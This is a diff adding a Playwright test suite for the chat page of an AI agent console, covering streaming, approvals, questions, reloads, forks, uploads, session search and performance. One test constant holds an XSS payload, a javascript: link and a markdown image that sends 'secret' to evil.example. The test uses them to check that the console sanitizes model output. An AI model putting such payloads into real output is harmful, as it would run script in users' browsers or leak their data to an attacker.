@@ -1,0 +1,320 @@
+"""The chat of the console: turns, approvals, questions, branches, two tabs, and reloads in mid-stream."""
+
+from __future__ import annotations
+
+import base64
+import re
+import uuid
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import FilePayload, Locator, Page, expect
+
+from tests.clients.behaviours import calculate
+from tests.clients.hub import Hub
+from tests.clients.upstream import Upstream
+from tests.console.browsing import Console
+from tests.console.conftest import StartConsole
+
+QUESTION = {
+    "name": "user_question",
+    "arguments": {"text": "Which supplier first?", "options": ["Nordwind", "Halm"]},
+}
+CONVERT = {
+    "name": "hub_call",
+    "arguments": {
+        "calls": [
+            {
+                "tool": "time.convert",
+                "input": {"time": "2026-01-01T10:00:00Z", "to_timezone": "Europe/Berlin"},
+            }
+        ]
+    },
+}
+PNG = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
+MARKDOWN = "# Found\n\nIt is **12 days** old.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n"
+ATTACK = '<img src=x onerror=alert(1)> ![x](https://evil.example/x.png?q=secret) [y](javascript:alert(1))'
+
+
+@pytest.fixture(scope="module")
+def hub(start_hub: Callable[..., Hub]) -> Hub:
+    """A hub whose policy asks before one operation, with a second agent and a second model."""
+    return start_hub(
+        pinned=["user.question"],
+        policy=[{"ask": "time.convert"}],
+        agents={"clerk": {"model": "up/other", "description": "Works."}},
+    )
+
+
+@pytest.fixture
+def gate(upstream: Upstream) -> Iterator[str]:
+    """A gate that the model waits at, opened at last."""
+    name = uuid.uuid4().hex
+    yield name
+    upstream.open(name)
+
+
+def say(page: Page, text: str) -> None:
+    """Write a message and send it."""
+    page.get_by_label("Message", exact=True).fill(text)
+    page.keyboard.press("Enter")
+
+
+def answers(page: Page) -> Locator:
+    return page.get_by_role("article", name="Answer")
+
+
+def is_ready(page: Page) -> None:
+    """Wait until the last answer has ended and can be answered again."""
+    expect(answers(page).last.get_by_role("button", name="Answer again")).to_be_enabled()
+
+
+def stored(hub: Hub, page: Page) -> list[dict[str, Any]]:
+    """The messages of the page's session."""
+    status, body = hub.request("GET", f"/api/sessions/{page.url.rpartition('/')[2]}/messages")
+    assert status == 200
+    messages: list[dict[str, Any]] = body["messages"]
+    return messages
+
+
+@pytest.mark.promise("console")
+def test_a_turn_is_streamed_with_its_tool_and_is_there_after_a_reload(
+    console: Console, upstream: Upstream
+) -> None:
+    mark = upstream.teach(
+        [{"reasoning": ["Let me think."]}, {"calls": [calculate("6*7")]}],
+        [{"text": [MARKDOWN, ATTACK]}],
+    )
+    page = console.open("/chat")
+    expect(page.get_by_text("Start with a message")).to_be_visible()
+    say(page, f"{mark} 6*7?")
+    is_ready(page)
+    answer = answers(page)
+    for _ in ("streamed", "stored"):
+        expect(answer.get_by_role("heading", name="Found")).to_be_visible()
+        expect(answer.get_by_role("table")).to_contain_text("2")
+        expect(answer.locator("code .hl-number")).to_have_text("1")
+        call = answer.get_by_role("group").filter(has_text="math.calculate")
+        expect(call).to_contain_text("done")
+        expect(call).to_contain_text("expression=6*7")
+        expect(answer.locator("img")).to_have_count(0)
+        expect(answer.get_by_role("link", name="image: x")).to_have_attribute("rel", "noopener noreferrer")
+        expect(answer.locator('a[href^="javascript"]')).to_have_count(0)
+        expect(answer).to_contain_text(re.compile(r"2 steps.*in · .* out"))
+        expect(answer.get_by_role("link", name="Open run")).to_have_attribute(
+            "href", re.compile("/console/runs/run_")
+        )
+        expect(page.get_by_role("complementary")).to_contain_text("6*7?")
+        assert console.find_accessibility_problems() == []
+        page.reload()
+    assert page.url.startswith(f"{console.hub.url}/console/chat/chat_")
+    assert len(upstream.requests(mark)) == 2
+
+
+def test_a_turn_makes_few_requests_whatever_its_length(console: Console, upstream: Upstream) -> None:
+    mark = upstream.teach([{"text": [f"word{number} " for number in range(500)]}], repeat=True)
+    page = console.open("/chat")
+    say(page, mark)
+    is_ready(page)
+    before = len(console.requests)
+    say(page, f"{mark} again")
+    expect(answers(page)).to_have_count(2)
+    is_ready(page)
+    assert len(console.requests) - before <= 12, console.requests[before:]
+    assert console.requests.count("GET /api/events") == 1
+    assert len(console.requests) <= 30, console.requests
+
+
+@pytest.mark.promise("console-keyboard")
+def test_an_approval_shows_what_will_run_and_why_and_is_answered_by_keyboard(
+    console: Console, upstream: Upstream
+) -> None:
+    page = console.open("/chat")
+    for key, outcome in (("Approve", "done"), ("Deny…", "denied")):
+        mark = upstream.teach([{"calls": [CONVERT]}], [{"text": f"It went on: {outcome}."}])
+        say(page, f"{mark} convert")
+        ask = page.get_by_role("region", name="time.convert needs approval")
+        expect(ask).to_contain_text('"to_timezone": "Europe/Berlin"')
+        expect(ask).to_contain_text("rule ask: time.convert")
+        expect(ask).to_contain_text("expires in")
+        expect(page.get_by_role("link", name="Inbox")).to_contain_text("1")
+        assert console.find_accessibility_problems() == []
+        ask.get_by_role("button", name=key).focus()
+        page.keyboard.press("Enter")
+        if key == "Deny…":
+            page.keyboard.press("Tab")
+            page.get_by_role("dialog").get_by_role("textbox").focus()
+            page.keyboard.type("Not today.")
+            page.get_by_role("dialog").get_by_role("button", name="Deny").focus()
+            page.keyboard.press("Enter")
+        expect(answers(page).last).to_contain_text(f"It went on: {outcome}.")
+        is_ready(page)
+        expect(answers(page).last.get_by_role("group").first).to_contain_text(outcome)
+        expect(page.get_by_role("link", name="Inbox")).not_to_contain_text("1")
+    assert "Not today." in str(stored(console.hub, page)[-1])
+
+
+def test_a_question_is_answered_with_an_option_or_in_words(console: Console, upstream: Upstream) -> None:
+    page = console.open("/chat")
+    for words in ("Halm", "Another one"):
+        mark = upstream.teach([{"calls": [QUESTION]}], [{"text": f"I take {words}."}])
+        say(page, f"{mark} ask me")
+        ask = page.get_by_role("region", name="Question")
+        expect(ask).to_contain_text("Which supplier first?")
+        if words == "Halm":
+            assert console.find_accessibility_problems() == []
+            ask.get_by_role("button", name=words).click()
+        else:
+            ask.get_by_role("textbox").fill(words)
+            page.keyboard.press("Enter")
+        expect(answers(page).last).to_contain_text(f"I take {words}.")
+        is_ready(page)
+        assert upstream.requests(mark)[1].body["messages"][-1]["content"] == words
+
+
+def test_a_reload_in_mid_stream_and_a_stop_keep_what_was_said(
+    console: Console, upstream: Upstream, gate: str
+) -> None:
+    mark = upstream.teach([{"text": ["one ", "two "]}, {"gate": gate}, {"text": ["three ", "four."]}])
+    page = console.open("/chat")
+    say(page, f"{mark} count")
+    expect(answers(page)).to_contain_text("one two")
+    page.reload()
+    expect(answers(page)).to_contain_text("one two")
+    expect(page.get_by_role("button", name="Stop")).to_be_visible()
+    upstream.open(gate)
+    expect(answers(page).get_by_text("one two three four.", exact=True)).to_be_visible()
+    is_ready(page)
+    assert len(upstream.requests(mark)) == 1
+
+    closed = uuid.uuid4().hex
+    mark = upstream.teach([{"text": "Half "}, {"gate": closed}, {"text": "whole"}])
+    say(page, f"{mark} stop me")
+    expect(answers(page).last).to_contain_text("Half")
+    page.get_by_role("button", name="Stop").click()
+    expect(answers(page).last).to_contain_text("stopped")
+    is_ready(page)
+    assert [message["role"] for message in stored(console.hub, page)] == ["user", "assistant"] * 2
+    upstream.open(closed)
+
+
+def test_two_tabs_show_the_same_answer_and_one_steers_the_other(
+    hub: Hub, start_console: StartConsole, upstream: Upstream, gate: str
+) -> None:
+    first, second = start_console(hub), start_console(hub)
+    page = first.open("/chat")
+    say(page, "#plain hello")
+    is_ready(page)
+    other = second.open(f"/chat/{page.url.rpartition('/')[2]}")
+    expect(answers(other)).to_contain_text("Hello from the model.")
+    mark = upstream.teach([{"text": "Long work "}, {"gate": gate}, {"calls": [calculate("1+1")]}], [])
+    say(page, f"{mark} work")
+    for each in (page, other):
+        expect(answers(each).last).to_contain_text("Long work")
+    steer = upstream.teach([{"text": "Steered."}])
+    say(other, f"{steer} do this instead")
+    expect(other.get_by_role("list", name="Messages that wait")).to_contain_text("do this instead")
+    expect(page.get_by_role("list", name="Messages that wait")).to_contain_text("do this instead")
+    upstream.open(gate)
+    for each in (page, other):
+        expect(answers(each).last).to_contain_text("Steered.")
+        expect(each.get_by_role("list", name="Messages that wait")).to_be_hidden()
+        is_ready(each)
+        expect(answers(each)).to_have_count(3)
+
+
+def test_a_message_is_edited_answered_again_and_forked(console: Console, upstream: Upstream) -> None:
+    page = console.open("/chat")
+    mark = upstream.teach([{"text": "First."}], [{"text": "Second."}], [{"text": "Third."}], in_order=True)
+    say(page, f"{mark} version one")
+    is_ready(page)
+    page.get_by_role("button", name="Edit").click()
+    page.get_by_role("textbox", name="Message").first.fill(f"{mark} version two")
+    page.keyboard.press("Enter")
+    expect(answers(page)).to_contain_text("Second.")
+    is_ready(page)
+    expect(page.get_by_text("2 / 2")).to_be_visible()
+    page.get_by_role("button", name="Earlier version").click()
+    expect(answers(page)).to_contain_text("First.")
+    expect(page.get_by_text("version one", exact=False).last).to_be_visible()
+    page.get_by_role("button", name="Answer again").click()
+    expect(answers(page)).to_contain_text("Third.")
+    is_ready(page)
+    before = page.url
+    page.get_by_role("button", name="Fork from here").click()
+    expect(page).not_to_have_url(before)
+    expect(answers(page)).to_contain_text("Third.")
+    assert len(stored(console.hub, page)) == 2
+
+
+def test_files_go_in_and_models_and_agents_are_chosen(console: Console, upstream: Upstream) -> None:
+    page = console.open("/chat")
+    page.get_by_label("Agent").select_option("clerk")
+    page.get_by_label("Files", exact=True).set_input_files(FilePayload(name="dot.png", mimeType="image/png", buffer=PNG))
+    mark = upstream.teach([{"text": "A dot."}])
+    say(page, f"{mark} what is it?")
+    is_ready(page)
+    expect(page.get_by_role("article", name="You").get_by_role("img", name="dot.png")).to_be_visible()
+    [request] = upstream.requests(mark)
+    assert request.body["model"] == "other"
+    assert base64.b64encode(PNG).decode() in str(request.body["messages"])
+
+
+def test_sessions_are_found_by_title_and_by_what_was_said(console: Console, upstream: Upstream) -> None:
+    words = uuid.uuid4().hex[:8]
+    mark = upstream.teach([{"text": f"The password of the week is {words}."}])
+    page = console.open("/chat")
+    say(page, f"{mark} Tell me")
+    is_ready(page)
+    page.get_by_label("Search sessions").fill(words)
+    expect(page.get_by_role("complementary").get_by_text(words)).to_be_visible()
+    expect(page).to_have_url(re.compile(f"q={words}"))
+    page.get_by_label("Search sessions").fill("no such title")
+    expect(page.get_by_text("No session has such a title")).to_be_visible()
+
+
+def test_what_the_model_refuses_is_told_and_can_be_tried_again(console: Console, upstream: Upstream) -> None:
+    page = console.open("/chat")
+    say(page, "#refuse please")
+    expect(page.get_by_role("alert")).to_contain_text("does not like this question")
+    assert console.find_accessibility_problems() == []
+    expect(page.get_by_role("button", name="Try again")).to_be_enabled()
+
+
+@pytest.mark.thorough
+def test_a_thousand_chunks_a_second_take_less_than_half_a_core(console: Console, upstream: Upstream) -> None:
+    chunks = [f"Word {number} of a **long** answer.{' ' if number % 40 else chr(10) * 2}" for number in range(8_000)]
+    mark = upstream.teach([{"text": chunks, "pace": 0.001}])
+    page = console.open("/chat")
+    expect(page.get_by_text("Start with a message")).to_be_visible()
+    session = page.context.new_cdp_session(page)
+    session.send("Performance.enable")
+
+    def measure() -> tuple[float, float]:
+        found = {each["name"]: each["value"] for each in session.send("Performance.getMetrics")["metrics"]}
+        return found["TaskDuration"], found["Timestamp"]
+
+    say(page, f"{mark} go")
+    expect(answers(page)).to_be_visible()
+    busy, began = measure()
+    is_ready(page)
+    busy_after, ended = measure()
+    assert (busy_after - busy) / (ended - began) < 0.5
+
+
+@pytest.mark.thorough
+@pytest.mark.parametrize("count", [1, 10_000])
+def test_a_long_session_and_many_sessions_open(start_hub: Callable[..., Hub], start_console: StartConsole, count: int) -> None:
+    hub = start_hub()
+    for number in range(count):
+        hub.request("POST", "/api/sessions", {"id": f"s{number}", "title": f"Session {number}"})
+    console = start_console(hub)
+    page = console.open("/chat")
+    expect(page.get_by_role("link", name=f"Session {count - 1} ")).to_be_visible()
+    page.get_by_label("Search sessions").fill("Session 0")
+    page.get_by_role("link", name="Session 0 ").click()
+    expect(page.get_by_role("heading", name="Session 0")).to_be_visible()
+    assert console.find_accessibility_problems() == []
